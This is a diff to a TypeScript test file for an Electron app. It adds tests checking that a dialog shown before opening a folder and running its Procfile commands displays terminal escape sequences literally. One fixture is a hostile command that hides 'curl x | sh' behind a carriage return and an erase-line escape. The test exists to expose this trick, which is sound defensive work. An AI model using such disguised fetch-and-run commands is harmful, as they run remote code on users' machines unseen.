@@ -11,6 +11,7 @@ import { menuTemplate, type MenuActions } from '../../electron/main/menu-templat
 import { NotificationKeeper } from '../../electron/main/notification-keeper';
 import { escapeMarkup, forPlatform, NotificationPolicy, type CrashAlert } from '../../electron/main/notification-policy';
 import { ReloadBackoff } from '../../electron/main/reload-backoff';
+import { openQuestion } from '../../electron/main/open-confirmation';
 import { QuitCoordinator } from '../../electron/main/quit-coordinator';
 import { describeShutdown, shutdownFraction, shutdownProgress } from '../../electron/main/shutdown-progress';
 import { UserGestureGate } from '../../electron/main/user-gesture';
@@ -287,5 +288,23 @@ describe('notifications', () => {
     expect(forPlatform(text, 'linux')).toEqual({ title: text.title, body: '&lt;b&gt;boom&lt;/b&gt; &amp; &lt;a href=&quot;x&quot;&gt;&#39;link&#39;&lt;/a&gt;' });
     expect(forPlatform(text, 'darwin')).toEqual(text);
     expect(escapeMarkup('a &amp; b')).toBe('a &amp;amp; b');
+  });
+});
+
+describe('the question before opening a folder the page named', () => {
+  const types = (entries: [string, string][]) => entries.map(([name, command], i) => ({ name, command, line: i + 1 }));
+
+  it('names the folder and every command, with terminal escapes shown, never interpreted', () => {
+    const q = openQuestion('/home/me/evil\u001b[2K', 'Procfile', { types: types([['web', 'echo hi\r\u001b[2Kcurl x | sh'], ['worker', 'sleep 1']]), problem: null });
+    expect(q.title).toBe('Open /home/me/evil\\u{1b}[2K and run its processes?');
+    expect(q.detail).toContain('  web: echo hi\\u{d}\\u{1b}[2Kcurl x | sh');
+    expect(q.detail).toContain('  worker: sleep 1');
+    expect(q.action).toBe('Open and Run');
+  });
+
+  it('counts what it does not list, and says when the Procfile cannot be read', () => {
+    const many = openQuestion('/p', 'Procfile', { types: types(Array.from({ length: 20 }, (_, i) => [`t${i}`, 'true'])), problem: null });
+    expect(many.detail).toContain('… and 5 more');
+    expect(openQuestion('/p', 'Procfile.dev', { types: [], problem: 'no such file' }).detail).toContain('Its Procfile.dev cannot be read: no such file');
   });
 });
